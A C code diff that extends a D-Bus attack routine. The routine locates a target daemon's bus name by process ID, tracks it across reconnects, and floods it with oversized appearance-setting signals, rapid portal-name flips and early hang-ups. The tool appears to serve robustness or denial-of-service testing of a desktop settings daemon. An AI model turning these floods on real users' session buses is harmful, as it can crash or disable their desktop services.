@@ -9,18 +9,59 @@
 #define APPEARANCE "org.freedesktop.appearance"
 
 static DBusConnection *bus;
-static const char *victim;
+static pid_t pid;        // whom it is aimed at
+static char victim[256]; // by this name on the bus, which is another after each reconnect
+static bool isLost = true;
 static long long count;
+
+static DBusMessage *asked(const char *method, const char *argument) {
+  DBusMessage *call = dbus_message_new_method_call(DBUS_SERVICE_DBUS, DBUS_PATH_DBUS, DBUS_INTERFACE_DBUS, method);
+  if (argument != NULL) dbus_message_append_args(call, DBUS_TYPE_STRING, &argument, DBUS_TYPE_INVALID);
+  DBusMessage *reply = dbus_connection_send_with_reply_and_block(bus, call, 10000, NULL);
+  dbus_message_unref(call);
+  return reply;
+}
+
+// Finds the daemon's name, as any stranger can.
+static void find_victim(void) {
+  DBusMessage *reply = asked("ListNames", NULL);
+  char **names = NULL;
+  int length = 0;
+  if (reply == NULL) fail("ListNames");
+  dbus_message_get_args(reply, NULL, DBUS_TYPE_ARRAY, DBUS_TYPE_STRING, &names, &length, DBUS_TYPE_INVALID);
+  isLost = true;
+  for (int index = 0; index < length && isLost; index++) {
+    if (names[index][0] != ':') continue;
+    DBusMessage *answer = asked("GetConnectionUnixProcessID", names[index]);
+    dbus_uint32_t number = 0;
+    if (answer == NULL) continue;
+    dbus_message_get_args(answer, NULL, DBUS_TYPE_UINT32, &number, DBUS_TYPE_INVALID);
+    dbus_message_unref(answer);
+    if (number != (dbus_uint32_t)pid) continue;
+    snprintf(victim, sizeof victim, "%s", names[index]);
+    isLost = false;
+  }
+  dbus_free_string_array(names);
+  dbus_message_unref(reply);
+}
+
+// Reads what has come; a name that comes or goes may be the daemon's.
+static void read_along(void) {
+  dbus_connection_read_write(bus, 0);
+  for (DBusMessage *got; (got = dbus_connection_pop_message(bus)) != NULL;) {
+    if (dbus_message_is_signal(got, DBUS_INTERFACE_DBUS, "NameOwnerChanged")) isLost = true;
+    dbus_message_unref(got);
+  }
+}
 
 // Sends it, and waits until the bus has it; what comes back is of no interest.
 static void post(DBusMessage *message) {
-  if (victim[0] != '-') dbus_message_set_destination(message, victim);
+  dbus_message_set_destination(message, victim);
   dbus_message_set_no_reply(message, TRUE);
   if (!dbus_connection_send(bus, message, NULL)) fail("dbus_connection_send");
   dbus_message_unref(message);
   dbus_connection_flush(bus);
-  dbus_connection_read_write(bus, 0);
-  for (DBusMessage *got; (got = dbus_connection_pop_message(bus)) != NULL;) dbus_message_unref(got);
+  read_along();
   if (!dbus_connection_get_is_connected(bus)) fail("the bus cut the connection");
   count++;
 }
@@ -107,8 +148,7 @@ static void flip(int64_t end) {
     dbus_bus_request_name(bus, PORTAL, flags, NULL);
     dbus_bus_release_name(bus, PORTAL, NULL);
     count++;
-    dbus_connection_read_write(bus, 0);
-    for (DBusMessage *got; (got = dbus_connection_pop_message(bus)) != NULL;) dbus_message_unref(got);
+    read_along();
   }
 }
 
@@ -158,10 +198,10 @@ static void hang_up_after_hello(const char *path, int64_t end) {
 int bus_attack(int words_count, char **words) {
   (void)words_count;
   const char *kind = words[0];
-  victim = words[1];
+  pid = atoi(words[1]);
   int64_t end = end_after(words[2]);
   if (strcmp(kind, "hang-up") == 0) {
-    hang_up_after_hello(victim, end);
+    hang_up_after_hello(words[1], end);
     return done(count);
   }
   bus = dbus_bus_get_private(DBUS_BUS_SESSION, NULL);
@@ -175,7 +215,14 @@ int bus_attack(int words_count, char **words) {
   enum { MARKS = 460000 };
   char *long_name = malloc(MARKS * 2 + 64);
   int64_t rest = 50000;
+  dbus_bus_add_match(bus, "type='signal',sender='" DBUS_SERVICE_DBUS "',member='NameOwnerChanged'", NULL);
   while (microseconds() < end) {
+    read_along();
+    if (isLost) find_victim();
+    if (isLost) {
+      pause_for(5000);
+      continue;
+    }
     if (strcmp(kind, "namespace") == 0) {
       put_marks(long_name + sprintf(long_name, "%s", "org.freedesktop.appearanc"), MARKS);
       post(changed(long_name, "color-scheme", "x"));
